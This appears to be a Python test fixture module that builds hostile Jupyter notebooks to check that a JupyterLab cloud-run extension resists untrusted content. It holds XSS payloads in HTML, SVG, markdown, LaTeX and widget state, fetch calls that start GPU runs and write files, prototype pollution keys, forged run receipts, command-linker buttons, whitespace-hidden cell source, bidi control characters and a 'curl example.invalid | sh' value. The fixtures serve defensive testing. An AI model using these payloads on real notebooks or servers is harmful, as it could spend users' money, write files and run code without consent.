"""Notebooks as somebody may have written them who wants a click, or no click, to start, spend or write."""

import json
from collections.abc import Callable, Iterator
from html import escape
from typing import Any

Notebook = dict[str, Any]

RUN_MIME = "application/vnd.lk.run+json"
WIDGET_STATE = "application/vnd.jupyter.widget-state+json"
WIDGET_VIEW = "application/vnd.jupyter.widget-view+json"
#: An id as runs have it.
RUN = "3f0c2a9e-5b1d-4c7e-9a51-0123456789ab"
#: The run of another notebook, which the journal of this machine has.
KNOWN_RUN = "7a1b2c3d-0000-4000-8000-0123456789ab"
KNOWN_NOTEBOOK = "mine.ipynb"
KNOWN_CELL = "my-cell"

#: What each would do: start a machine, write a file, run code in the kernel.
START = {"hardware_profile": "gpu.a100", "code": "1", "timeout": 60}
SCRIPT = f"""window.ACTED = true;
fetch('/lk/api/execution/streaming/start', {{method: 'POST', body: {json.dumps(json.dumps(START))}}});
fetch('/api/contents/ACTED.txt', {{method: 'PUT', body: '{{"type":"file","format":"text","content":"x"}}'}});"""
PYTHON = "import pathlib\npathlib.Path('ACTED').touch()"
REMOTE = f"%%lk_run --gpu A100\n{PYTHON}"
ATTRIBUTE = SCRIPT.replace("&", "&amp;").replace('"', "&quot;").replace("\n", " ")

RECEIPT = {"execution_id": RUN, "state": "completed", "machine": "cpu", "seconds": 1, "cost": "0.0001"}
HEADER = {**RECEIPT, "notes": ["See https://example.invalid/x."], "name": "x", "price_per_hour": "0.01"}

#: Commands that Lab runs for a button of an output that has these attributes; from version 4.6 on it asks before.
LINKS: dict[str, dict[str, Any]] = {
    "lk:run-on": {"machine": "gpu.a100", "facts": "free today"},
    "lk:choose-machine": {"machine": "gpu.b300"},
    "lk:run-here": {},
    "lk:run-cell-again": {"notebook": "PATH", "cellId": "cell-0", "machine": "cpu"},
    "lk:attach": {"notebook": "PATH", "cellId": "cell-0", "id": RUN},
    "lk:use-run": {"notebook": "PATH", "cellId": "cell-0", "id": RUN},
    "lk:rerun-longer": {"notebook": "PATH", "cellId": "cell-0", "id": RUN, "limit": 600},
    "lk:insert-code": {"code": PYTHON},
    "lk:abort-run": {"id": RUN, "name": "an old test"},
    "lk:copy-run-id": {"id": "curl example.invalid | sh\n"},
    "lk:open-quickstart": {"cwd": ""},
    "lk:use-local-cloud": {},
    "lk:sign-out": {},
    "lk:switch-organization": {"slug": "theirs"},
    "lk:load-file": {"key": "x"},
    "lk:copy-run-path": {"key": "x"},
    "lk:preview-file": {"key": "x"},
    "lk:open-run": {"id": RUN},
    "lk:go-to-cell": {"notebook": "PATH", "cellId": "cell-0"},
    "lk:open-panel": {},
    "lk:open-bucket": {},
    "lk:stop-all": {},
    "lk:refresh": {},
}


def cell(source: str = REMOTE, *outputs: Notebook, at: int = 0, **metadata: Any) -> Notebook:
    """Return a code cell."""
    found = {"cell_type": "code", "id": f"cell-{at}", "source": source, "outputs": list(outputs)}
    return {**found, "execution_count": 1, "metadata": {**metadata}}


def markdown(text: str, **more: Any) -> Notebook:
    return {"cell_type": "markdown", "id": "text", "source": text, "metadata": {}, **more}


def display(data: dict[str, Any], **metadata: Any) -> Notebook:
    """Return an output of these types, with what the metadata of ours has."""
    return {"output_type": "display_data", "data": {"text/plain": "x", **data}, "metadata": metadata}


def book(*cells: Notebook, kernel: str = "python3", **metadata: Any) -> Notebook:
    about = {"kernelspec": {"name": kernel, "display_name": "Python 3", "language": "python"}, **metadata}
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": about, "cells": list(cells)}


def html(text: str) -> Notebook:
    return book(cell(REMOTE, display({"text/html": text})), markdown(text))


def forged(metadata: Any = None, data: Any = None, source: str = REMOTE, **of_cell: Any) -> Notebook:
    """Return a notebook whose cell has an output of ours."""
    return book(cell(source, display(data or {}, **(metadata or {})), **of_cell))


def widgets(model: dict[str, Any], **state: Any) -> Notebook:
    """Return a notebook with a saved widget, shown by ipywidgets and as one of ours."""
    view = {"model_id": "w1", "version_major": 2, "version_minor": 0}
    saved = {"w1": {**model, "model_module_version": "*", "state": state}}
    shown = display({WIDGET_VIEW: view, "text/html": "<b>x</b>"}, lk_jupyter={"view": "w1"})
    states = {WIDGET_STATE: {"version_major": 2, "version_minor": 0, "state": saved}}
    return book(cell("1", shown), widgets=states)


ANYWIDGET = {"model_module": "anywidget", "model_name": "AnyModel"}
CODE = {
    "_model_module": "anywidget",
    "_model_name": "AnyModel",
    "_view_module": "anywidget",
    "_view_name": "AnyView",
    "_view_count": None,
    "_esm": f"{SCRIPT}\nexport default {{ initialize() {{ {SCRIPT} }}, render() {{ {SCRIPT} }} }};",
    "_css": "@import url('/lk/status');",
    "_anywidget_id": "lk_jupyter.widgets.runs.RunsTable",
}
OURS = {"model_module": "_lk-jupyter", "model_name": "Model"}
#: A gate of saved widgets, which the notebook names itself.
GATE = {"model_module": "_lk-jupyter", "model_name": "Gate"}
OUR_STATE = {
    "_model_module": "_lk-jupyter",
    "_view_module": "_lk-jupyter",
    "_model_name": "Model",
    "_view_name": "login",
    "_module": "../../../static/x",
    "rows": [{"id": "{1}", "name": "<img src=x onerror=alert(1)>"}],
    "turns": [{"role": "assistant", "text": f"<script>{SCRIPT}</script>"}],
    "html": f"<img src=x onerror='{ATTRIBUTE}'>",
    "_esm": CODE["_esm"],
    "__proto__": {"polluted": True},
}
CONTROLS = {
    "model_module": "@jupyter-widgets/controls",
    "model_name": "HTMLModel",
}
CONTROL_STATE = {
    "_model_module": "@jupyter-widgets/controls",
    "_model_name": "HTMLModel",
    "_view_module": "@jupyter-widgets/controls",
    "_view_name": "HTMLView",
    "value": f'<img src=x onerror="{ATTRIBUTE}"><script>{SCRIPT}</script>',
}


def linked() -> Notebook:
    """Return a notebook with a button for each command of ours, and for those of Lab that run cells."""
    attributes = 'data-commandlinker-command="{}" data-commandlinker-args="{}"'
    buttons = [
        f"<button {attributes.format(name, escape(json.dumps(args)))}>Show more</button>"
        for name, args in {**LINKS, "notebook:run-all-cells": {}}.items()
    ]
    return html("".join(buttons))


def polluted() -> Notebook:
    """Return a notebook with names that every object has; Lab opens none that has the name "constructor"."""
    keys = {"__proto__": {"polluted": True, "execution_id": RUN}, "toString": {"prototype": {"polluted": True}}}
    metadata = {**keys, "lk_jupyter": {**keys, "runs": [{**RECEIPT, **keys}]}, "lk_jupyter_hints": keys}
    return book(
        cell(REMOTE, display({"__proto__": "x", "toString": "x", RUN_MIME: {**HEADER, **keys}}, **metadata), **keys),
        cell(REMOTE, display({}, **metadata), at=1),
        **keys,
    )


def received() -> dict[str, Callable[[], Notebook] | Notebook]:
    """Return the notebooks by what they try."""
    lost = {"output_type": "stream", "name": "stderr", "text": ["UsageError: Line magic function `%lk_x` not found.\n"]}
    error = {
        "output_type": "error",
        "ename": "UsageError",
        "evalue": "Cell magic `%%lk_run` not found.",
        "traceback": [],
    }
    several = {"head": "2 runs", "runs": [HEADER, {**HEADER, "execution_id": RUN[:-1] + "c"}], "notes": ["x"]}
    odd = [{**RECEIPT, "execution_id": name} for name in ("{open('ACTED','w')}", "x\n!touch ACTED", "../../x", "$HOME")]
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ATTRIBUTE}"><script>{SCRIPT}</script></svg>'
    turned = "train\u202egpj.\u2066\u200b\x07.py"
    vega = {"$schema": "https://vega.github.io/schema/vega-lite/v5.json", "data": {"url": "/lk/status"}, "mark": "bar"}
    return {
        # code in the state of widgets
        "widget state with code": widgets(ANYWIDGET, **CODE),
        "widget state of ours": widgets(OURS, **OUR_STATE),
        "widget state of a gate": widgets(GATE, **{**OUR_STATE, "_model_name": "Gate", "key": "__proto__"}),
        "widget state with code named as ours": widgets(ANYWIDGET, **{**CODE, **OUR_STATE, **ANYWIDGET}),
        "widget state of controls": widgets(CONTROLS, **CONTROL_STATE),
        "name of a kernel of the cloud": book(cell(), kernel="lk-gpu.a100"),
        # types of outputs
        "script": book(cell(REMOTE, display({"application/javascript": SCRIPT}))),
        "html with handlers": html(
            f'<script>{SCRIPT}</script><img src=x onerror="{ATTRIBUTE}"><svg onload="{ATTRIBUTE}">'
        ),
        "svg": book(cell(REMOTE, display({"image/svg+xml": svg}))),
        "vega": book(cell(REMOTE, display({"application/vnd.vegalite.v5+json": vega}))),
        "latex": book(cell(REMOTE, display({"text/latex": rf"$\href{{javascript:{ATTRIBUTE}}}{{x}}$"}))),
        "markdown": book(cell(REMOTE, display({"text/markdown": f"[x](javascript:{SCRIPT}) <img src=x onerror=1>"}))),
        "pdf, geojson and mermaid": book(
            cell(REMOTE, display({"application/geo+json": {"type": "x", "__proto__": {}}, "application/pdf": "eA=="})),
            markdown(f'```mermaid\ngraph TD; A-->B; click A href "javascript:{SCRIPT}"\n```'),
        ),
        # what ours are drawn from
        "forged header": forged(data={RUN_MIME: HEADER}),
        "forged header of an active run": forged(data={RUN_MIME: {**HEADER, "state": "running"}}),
        "forged headers and hidden lines": book(
            cell(REMOTE, display({RUN_MIME: several})),
            cell(REMOTE, display({RUN_MIME: {**RECEIPT, "hidden_lines": 9e15}}), at=1),
        ),
        "forged receipt of code that runs here": forged({"lk_jupyter": RECEIPT}, source=PYTHON),
        "forged receipt of a run of this machine": forged(
            {"lk_jupyter": {**RECEIPT, "execution_id": KNOWN_RUN}}, {RUN_MIME: {**HEADER, "execution_id": KNOWN_RUN}}
        ),
        "forged log of an active run of this machine": forged(
            data={RUN_MIME: {**HEADER, "execution_id": KNOWN_RUN, "state": "running", "log_lines": 200}}
        ),
        "receipts whose ids are code": book(
            *(cell(REMOTE, display({RUN_MIME: one}, lk_jupyter=one), at=at) for at, one in enumerate(odd))
        ),
        "hints": forged(
            {"lk_jupyter_hints": ["--gpu A100", "--carry", "--files data/x", "--timeout 999999", "--in {1}", "x\n!x"]}
        ),
        # what a cell says and hides
        "text of a magic that is missing": book(cell(PYTHON, lost, jupyter={"source_hidden": True})),
        "error of a magic that is missing": book(cell(REMOTE, error, collapsed=True, tags=["hide-input"])),
        "hidden source": forged(
            {"lk_jupyter": RECEIPT},
            {RUN_MIME: HEADER},
            source=f"print(1){' ' * 500}\n{chr(10) * 500}get_ipython().run_cell_magic('lk_run', '--gpu A100', '1')",
            jupyter={"source_hidden": True, "outputs_hidden": False},
            tags=["parameters"],
            trusted=True,
            execution={"iopub.execute_input": "2026-01-01T00:00:00Z", "shell.execute_reply": 5},
        ),
        "attachments": book(
            markdown("![x](attachment:x.svg)", attachments={"x.svg": {"image/svg+xml": svg, "text/html": svg}}),
            cell(REMOTE, display({RUN_MIME: HEADER})),
        ),
        "raw cells": book(
            {"cell_type": "raw", "id": "r", "source": svg, "metadata": {"format": "text/html", "lk_jupyter": RECEIPT}},
            cell(REMOTE, display({RUN_MIME: HEADER})),
        ),
        # elements and names
        "buttons for commands": linked,
        "settings in the metadata": book(
            cell(REMOTE, display({}, lk_jupyter=RECEIPT)),
            lk_jupyter={"machine": "gpu.a100", "api_key": "lk_x", "base_url": "http://127.0.0.1:9", "timeout": 1},
            lk={"approved": True, "trusted": True, "kernel": {"approved": ["lk-gpu.a100"]}},
            trusted=True,
        ),
        "long ids": book(
            {**cell(REMOTE, display({RUN_MIME: {**HEADER, "execution_id": "a" * 100}})), "id": "c" * 64},
            cell(REMOTE, display({}, lk_jupyter={**RECEIPT, "execution_id": "a" * 100_000}), at=1),
            cell(REMOTE, display({}, lk_jupyter={**RECEIPT, "seconds": 1e308, "cost": "9" * 10_000}), at=2),
        ),
        "names that every object has": polluted,
        "links and frames": html(
            f'<a href="javascript:{ATTRIBUTE}" class="lk-badge">x</a>'
            f'<iframe srcdoc="<script>{ATTRIBUTE}</script>"></iframe>'
            f'<object data="data:text/html,x"></object><embed src="/lk/status"><a href="/api/shutdown" download>x</a>'
        ),
        "forms": html(
            '<form action="/lk/local" method="post"><button class="lk-badge" type="submit">x</button></form>'
            '<button formaction="/lk/signout" formmethod="post" form="f">x</button>'
            '<form id="f" action="/lk/signout"></form>'
        ),
        "meta and styles": html(
            '<meta http-equiv="refresh" content="0;url=/lk/status"><base href="http://127.0.0.1:9/">'
            "<style>@import url('/lk/status'); .lk-badge { position: fixed; inset: 0; background: url(/lk/x) }</style>"
            '<div style="position:fixed;inset:0;background:url(/lk/status)" class="lk-run-header"></div>'
        ),
        "control characters in names": forged(
            {"lk_jupyter": {**RECEIPT, "machine": turned}}, {RUN_MIME: {**HEADER, "name": turned, "told": [turned]}}
        ),
    }


def table() -> Iterator[tuple[str, Notebook]]:
    """Yield each notebook with its name."""
    for name, content in received().items():
        yield name, content() if callable(content) else content
